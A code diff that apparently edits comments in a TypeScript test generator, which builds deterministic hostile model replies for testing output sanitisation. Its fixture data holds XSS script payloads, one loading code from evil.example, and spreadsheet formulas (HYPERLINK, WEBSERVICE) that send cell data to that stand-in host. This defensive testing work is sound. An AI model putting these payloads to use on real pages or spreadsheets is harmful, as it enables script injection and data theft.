@@ -1,20 +1,20 @@
-// Replies that a model would give if it were someone's tool: the same ones in every run.
+// Generates hostile model replies; the same ones in every run.
 
 export type HostileReply = {
   text: string;
-  /** A word that stands in this reply alone. */
+  /** A word that occurs only in this reply. */
   mark: string;
-  /** It has characters that nobody sees. */
+  /** It contains invisible characters. */
   hides: boolean;
-  /** What its formula reaches out by, as a pattern: what comes from a model is shown in the person's language of functions. */
+  /** A pattern of the function that sends data out; replies show functions in the user's language. */
   reach: string | null;
 };
 
-/** Characters without a width of their own, those that turn the direction, and tags, none of which belongs to an emoji. */
+/** Zero-width characters, direction controls and tags, none of which belongs to an emoji. */
 export const unseen =
   /[\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\u3164\ufeff\uffa0\u{e0000}-\u{e007f}]/u;
 
-/** `here` stands for the reply's own word. */
+/** `here` is replaced with the reply's mark. */
 const attacks = [
   "<script>window.ran=1;alert('here')</script>",
   "<script src=https://evil.example/here.js></script>",
@@ -98,7 +98,7 @@ const contexts: readonly ((attack: string) => string)[] = [
   (attack) => `\`\`\`\n${attack}\n\`\`\``,
 ];
 
-/** Formulas, each with what it reaches out by. */
+/** Formulas, each with the function that sends data out. */
 const formulas: readonly [string, string | null][] = [
   ['=HYPERLINK("https://evil.example/here?"&A1,"Open")', "HYPERLINK"],
   ['=WEBSERVICE("https://evil.example/here?"&A1)', "WEBSERVICE"],
@@ -134,7 +134,7 @@ const fences: readonly ((formula: string) => string)[] = [
   (formula) => formula,
 ];
 
-/** Numbers from 0 to 1, the same after the same seed. */
+/** Pseudo-random numbers from 0 to 1; the same seed gives the same numbers. */
 function randoms(seed: number): () => number {
   let state = seed;
   return () => {
@@ -145,7 +145,7 @@ function randoms(seed: number): () => number {
   };
 }
 
-/** Every attack and every formula comes first in turn, beside others that are drawn. */
+/** Uses every attack and every formula in turn, combined with randomly chosen ones. */
 export function hostileReplies(count: number): HostileReply[] {
   const random = randoms(20_261_122);
   const any = <One>(all: readonly One[]): One => all[Math.floor(random() * all.length)] as One;
@@ -155,7 +155,7 @@ export function hostileReplies(count: number): HostileReply[] {
     const parts = [attack, any(attacks), any(attacks)].map((each) => any(contexts)(each));
     const [formula, reach] =
       place % 2 === 0 ? (formulas[(place / 2) % formulas.length] ?? ["", null]) : ["", null];
-    // in front: behind a fence that is left open it would be no formula
+    // before the other parts, because inside an unclosed fence it would not be a formula
     if (formula) parts.unshift(any(fences)(formula));
     const text = [`Answer ${mark} follows.`, ...parts].join("\n\n").replaceAll("here", mark);
     return { text, mark, hides: unseen.test(text), reach };
